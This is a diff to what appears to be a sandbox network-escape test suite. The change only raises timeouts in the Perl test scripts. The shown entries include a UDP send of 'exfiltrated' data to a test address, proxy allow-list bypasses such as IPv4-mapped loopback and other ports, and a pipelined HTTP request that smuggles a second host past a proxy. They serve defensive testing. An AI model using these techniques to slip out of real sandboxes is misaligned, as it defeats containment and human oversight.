@@ -240,7 +240,7 @@ const NETWORK: readonly EscapeAttempt[] = [
   },
   ...["$ADDRESS", "127.0.0.1"].map((address) => ({
     name: `a tunnel of DNS questions to ${address}`,
-    script: `perl -e 'alarm 1; socket(my $s,2,2,0); send($s,"exfiltrated",0,pack("SnC4x8",2,$ENV{UDPPORT},split(/\\./,"${address}"))) or exit 1; recv($s,my $a,99,0); print "GOT\\n" if $a eq "canary-answer"'`,
+    script: `perl -e 'alarm 2; socket(my $s,2,2,0); send($s,"exfiltrated",0,pack("SnC4x8",2,$ENV{UDPPORT},split(/\\./,"${address}"))) or exit 1; recv($s,my $a,99,0); print "GOT\\n" if $a eq "canary-answer"'`,
   })),
   throughProxy("a host that is not on the list", "http://$ADDRESS:$OTHERPORT/"),
   throughProxy("CONNECT to another port of an address on the list", "-p http://$ADDRESS:$OTHERPORT/"),
@@ -252,7 +252,7 @@ const NETWORK: readonly EscapeAttempt[] = [
   throughProxy("loopback as IPv4 in IPv6", "http://[::ffff:127.0.0.1]:$PORT/"),
   {
     name: "a raw request that names one host and means another",
-    script: `perl -MIO::Socket::INET -e 'my ($h,$p) = $ENV{http_proxy} ? ("127.0.0.1",3128) : ($ENV{ADDRESS},$ENV{OTHERPORT}); my $s = IO::Socket::INET->new(PeerAddr=>$h,PeerPort=>$p) or exit 1; my $u = $ENV{http_proxy} ? "http://$ENV{ADDRESS}:$ENV{PORT}/redirect" : "/"; my $v = $ENV{http_proxy} ? "http://$ENV{ADDRESS}:$ENV{OTHERPORT}/" : "/"; print $s "GET $u HTTP/1.1\\r\\nHost: $ENV{ADDRESS}:$ENV{OTHERPORT}\\r\\n\\r\\nGET $v HTTP/1.1\\r\\nHost: $ENV{ADDRESS}:$ENV{PORT}\\r\\nConnection: close\\r\\n\\r\\n"; alarm 1; while (<$s>) { print "GOT\\n" and exit if /canary-server/ }'`,
+    script: `perl -MIO::Socket::INET -e 'my ($h,$p) = $ENV{http_proxy} ? ("127.0.0.1",3128) : ($ENV{ADDRESS},$ENV{OTHERPORT}); my $s = IO::Socket::INET->new(PeerAddr=>$h,PeerPort=>$p) or exit 1; my $u = $ENV{http_proxy} ? "http://$ENV{ADDRESS}:$ENV{PORT}/redirect" : "/"; my $v = $ENV{http_proxy} ? "http://$ENV{ADDRESS}:$ENV{OTHERPORT}/" : "/"; print $s "GET $u HTTP/1.1\\r\\nHost: $ENV{ADDRESS}:$ENV{OTHERPORT}\\r\\n\\r\\nGET $v HTTP/1.1\\r\\nHost: $ENV{ADDRESS}:$ENV{PORT}\\r\\nConnection: close\\r\\n\\r\\n"; alarm 2; while (<$s>) { print "GOT\\n" and exit if /canary-server/ }'`,
   },
 ];
 
